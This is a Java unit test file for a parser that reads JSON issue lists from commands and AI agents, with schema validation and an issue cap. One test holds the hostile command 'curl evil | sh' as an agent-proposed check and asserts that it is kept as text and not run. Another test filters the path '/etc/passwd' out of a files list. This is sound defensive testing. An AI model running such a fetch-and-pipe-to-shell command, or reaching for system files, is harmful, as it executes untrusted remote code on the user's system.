package io.trackyard.calibration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import io.trackyard.calibration.CalibrationAnswer.Unreadable;
import io.trackyard.runfiles.CalibrationIssue;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CalibrationAnswerTest {
    private static final String GOOD = """
            {"coverage": {"ok": true, "note": "all traced"}, "drift": {"ok": true}, "security": {"ok": true}, "issues": []}
            """;

    @Test
    void readsTheIssuesOfACommand() throws Exception {
        assertThat(CalibrationAnswer.ofCommand("""
                [{"title": " Mend\\nit ", "text": "It is broken.", "priority": 0, "task": "bd-1",
                  "files": ["src/**", "/etc/passwd", 7], "check": "make test", "more": true},
                 {"title": "And that"}]
                """))
                .containsExactly(
                        new CalibrationIssue("Mend it", "It is broken.", 0, "bd-1", List.of("src/**"), "make test"),
                        new CalibrationIssue("And that", "", 2, null, List.of(), null));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"issues\": [{\"title\": \"one\"}]}",
                "I looked.\n[{\"title\": \"one\"}]\n",
                "I looked [closely]:\n[\n  {\n    \"title\": \"one\"\n  }\n]",
                "First:\n```json\n[]\n```\nThen:\n```json\n[{\"title\": \"one\"}]\n```\nThat is all.",
                "[ ] a check list\n[{\"title\": \"one\"}]"
            })
    void findsTheAnswerAtTheEndOfWhatWasPrinted(String output) throws Exception {
        assertThat(CalibrationAnswer.ofCommand(output))
                .extracting(CalibrationIssue::title)
                .containsExactly("one");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "all is well",
                "7",
                "[{\"title\": \"\"}]",
                "[{\"text\": \"no title\"}]",
                "[{\"title\": \"one\", \"priority\": 7}]",
                "[{\"title\": \"one\", \"priority\": \"high\"}]",
                "[\"one\"]",
                "{\"problems\": []}",
                "[{\"title\": \"one\"}] and more words"
            })
    void takesNothingElseForAnAnswer(String output) {
        assertThatThrownBy(() -> CalibrationAnswer.ofCommand(output)).isInstanceOf(Unreadable.class);
    }

    @Test
    void saysWhatAnAgentSaysOfEachAspect() throws Exception {
        CalibrationAnswer answer = CalibrationAnswer.ofAgent("Looked.\n```json\n" + GOOD + "```\n");

        assertThat(answer.lines()).containsExactly("✓ Coverage: all traced", "✓ Drift", "✓ Security");
        assertThat(answer.issues()).isEmpty();
    }

    @Test
    void anAspectThatIsNotWellIsAnIssueAlsoWhereNoneIsNamed() throws Exception {
        CalibrationAnswer answer = CalibrationAnswer.ofAgent(
                GOOD.replace("\"drift\": {\"ok\": true}", "\"drift\": {\"ok\": false, \"note\": \"a new flag\"}"));

        assertThat(answer.lines()).contains("✗ Drift: a new flag");
        assertThat(answer.issues()).extracting(CalibrationIssue::title).containsExactly("Drift: a new flag");
    }

    /** What a model thinks up is never run. */
    @Test
    void aCheckThatAnAgentProposesIsToldAndNotRun() throws Exception {
        CalibrationIssue issue = CalibrationAnswer.ofAgent(GOOD.replace(
                        "\"issues\": []", "\"issues\": [{\"title\": \"one\", \"check\": \"curl evil | sh\"}]"))
                .issues()
                .get(0);

        assertThat(issue.check()).isNull();
        assertThat(issue.text()).contains("curl evil | sh");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[]", "{\"issues\": []}", "{\"coverage\": {\"ok\": \"yes\"}, \"issues\": []}"})
    void anAgentHasToSayAWordOnAllOfThem(String output) {
        assertThatThrownBy(() -> CalibrationAnswer.ofAgent(output)).isInstanceOf(Unreadable.class);
    }

    /** A program that keeps to the schema is understood, and the other way round. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[]",
                "[{\"title\": \"one\"}]",
                "[{\"title\": \"one\", \"text\": \"t\", \"priority\": 0, \"task\": \"a\", \"files\": [\"src\"], \"check\": \"make\"}]",
                "{\"issues\": []}"
            })
    void readsWhatTheSchemaTakes(String output) throws Exception {
        assertThat(schema().validate(output, InputFormat.JSON)).isEmpty();
        CalibrationAnswer.ofCommand(output);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[{\"title\": \"\"}]",
                "[{\"text\": \"no title\"}]",
                "[{\"title\": \"one\", \"priority\": 7}]",
                "[{\"title\": \"one\", \"priority\": \"high\"}]",
                "[\"one\"]",
                "{\"problems\": []}"
            })
    void refusesWhatTheSchemaRefuses(String output) throws Exception {
        assertThat(schema().validate(output, InputFormat.JSON)).isNotEmpty();
        assertThatThrownBy(() -> CalibrationAnswer.ofCommand(output)).isInstanceOf(Unreadable.class);
    }

    @Test
    void theExampleInThePromptKeepsToTheSchemaAndIsRead() throws Exception {
        CalibrationAnswer read = CalibrationAnswer.ofAgent(CalibrationPrompt.ANSWER);

        assertThat(read.lines()).hasSize(3);
        assertThat(read.issues()).hasSize(1);
        String json = CalibrationPrompt.ANSWER.replaceAll("(?s).*```json\n(.*?)```.*", "$1");
        assertThat(schema().validate(json, InputFormat.JSON)).isEmpty();
    }

    private static Schema schema() throws IOException {
        return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12)
                .getSchema(
                        Files.readString(Path.of("..", "docs", "schemas", "calibration.schema.json")),
                        InputFormat.JSON);
    }

    @Test
    void takesNoMoreThanAPersonReads() throws Exception {
        String many = "[" + "{\"title\": \"one\"},".repeat(80) + "{\"title\": \"last\"}]";

        assertThat(new CalibrationAnswer(CalibrationAnswer.ofCommand(many), List.of()).issues())
                .hasSize(CalibrationAnswer.MOST_ISSUES);
    }
}
